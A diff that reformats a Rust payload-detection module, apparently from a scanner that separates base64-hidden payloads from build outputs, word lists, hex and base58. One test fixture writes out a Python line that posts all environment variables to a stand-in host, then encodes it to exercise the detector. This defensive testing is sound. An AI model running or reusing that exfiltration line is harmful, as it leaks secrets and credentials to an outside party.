@@ -37,9 +37,12 @@ pub(super) fn testish(path: &str) -> bool {
 /// lists (ethers' packed BIP-39 lists): a long encoded run there is data, not a payload.
 pub(super) fn generated_or_word_list(path: &str) -> bool {
     let lower = path.to_ascii_lowercase();
-    lower.split('/').rev().skip(1).any(|c| {
-        matches!(c, "dist" | "lib.esm" | "lib.commonjs" | "umd" | "cjs" | "esm") || c.contains("wordlist")
-    }) || classify::file_name(&lower).contains("wordlist")
+    lower
+        .split('/')
+        .rev()
+        .skip(1)
+        .any(|c| matches!(c, "dist" | "lib.esm" | "lib.commonjs" | "umd" | "cjs" | "esm") || c.contains("wordlist"))
+        || classify::file_name(&lower).contains("wordlist")
 }
 
 /// Is this run base64 a payload could hide in, rather than some other data?
@@ -130,7 +133,13 @@ mod tests {
 
     #[test]
     fn build_outputs_and_word_lists_are_data() {
-        for p in ["dist/ethers.js", "lib.esm/wordlists/lang-ko.js", "src.ts/wordlists/lang-zh.ts", "dist/wordlists-extra.js", "src/wordlist.ts"] {
+        for p in [
+            "dist/ethers.js",
+            "lib.esm/wordlists/lang-ko.js",
+            "src.ts/wordlists/lang-zh.ts",
+            "dist/wordlists-extra.js",
+            "src/wordlist.ts",
+        ] {
             assert!(generated_or_word_list(p), "{p}");
         }
         for p in ["src/index.js", "lib/payload.js", "distance/a.js", "src/words.ts"] {
@@ -142,27 +151,19 @@ mod tests {
     fn payload_vs_data() {
         assert!(looks_base64(b64(1500).as_bytes()));
         use base64::Engine as _;
-        let script =
-            "import os, requests; requests.post('https://x.example', data=os.environ)\n".repeat(30);
+        let script = "import os, requests; requests.post('https://x.example', data=os.environ)\n".repeat(30);
         let enc = base64::engine::general_purpose::STANDARD.encode(script);
         assert!(looks_base64(enc.as_bytes()), "base64 of a script");
         // EVM creation bytecode.
-        let evm = format!(
-            "0x60806040523480156100105760008{}",
-            "0a2646970667358221220".repeat(80)
-        );
+        let evm = format!("0x60806040523480156100105760008{}", "0a2646970667358221220".repeat(80));
         assert!(!looks_base64(evm.as_bytes()));
         // Pure hex.
         assert!(!looks_base64("deadbeefCAFE0123".repeat(100).as_bytes()));
         // A BIP-39-style word list stored as one string, with a few markers.
-        let words =
-            "abandonAbilityAbleAboutAbove1absentAbsorbAbstract2absurdAbuse0access".repeat(25);
+        let words = "abandonAbilityAbleAboutAbove1absentAbsorbAbstract2absurdAbuse0access".repeat(25);
         assert!(!looks_base64(words.as_bytes()));
         // Base58 (no 0, O, I, l).
-        let b58: String = b64(1500)
-            .chars()
-            .filter(|c| !"0OIl+/".contains(*c))
-            .collect();
+        let b58: String = b64(1500).chars().filter(|c| !"0OIl+/".contains(*c)).collect();
         assert!(!looks_base64(b58.as_bytes()));
     }
 
